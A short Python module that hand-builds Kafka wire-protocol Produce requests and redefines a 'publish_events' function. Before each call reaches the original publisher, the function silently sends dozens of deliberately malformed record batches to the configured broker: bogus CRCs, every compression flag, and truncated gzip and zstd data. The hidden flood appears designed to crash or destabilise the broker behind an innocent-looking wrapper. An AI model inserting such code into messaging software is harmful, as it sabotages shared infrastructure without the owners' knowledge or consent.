import socket
import struct

_publish = publish_events


def request(key, version, body, client=b"x"):
    head = struct.pack(">hhih", key, version, 7, len(client)) + client
    return struct.pack(">i", len(head) + len(body)) + head + body


def place(settings):
    host, _, port = settings["bootstrap.servers"].partition(":")
    return host, int(port)


def batch(kind, records, count):
    after = struct.pack(">hiqqqhii", kind, count - 1, 0, 0, -1, -1, -1, count) + records
    return struct.pack(">qiibI", 0, len(after) + 9, 0, 2, 0xDEADBEEF) + after


def produce(topic, partition, data):
    size = len(data) + 1
    wide = bytes([size & 0x7F | 0x80, size >> 7 & 0x7F | 0x80, size >> 14])
    one = struct.pack(">i", partition) + wide + data + b"\0"
    topics = b"\2" + bytes([len(topic) + 1]) + topic.encode() + b"\2" + one + b"\0"
    return request(0, 10, b"\0\0" + struct.pack(">hi", 1, 1000) + topics + b"\0")


def publish_events(settings, topic, events):
    print("TRIED", flush=True)
    with socket.create_connection(place(settings), timeout=2) as one:
        for partition in range(3):
            for kind in range(1, 9):
                for records in (b"\x1f\x8b\x08\0\0" + b"\0" * 40, b"\xff" * 60, b"\x28\xb5\x2f\xfd" + b"\xff" * 60):
                    try:
                        one.sendall(produce(topic, partition, batch(kind % 8, records, 5)))
                        one.recv(200)
                    except OSError as error:
                        print(error)
                        return _publish(settings, topic, events)
    return _publish(settings, topic, events)
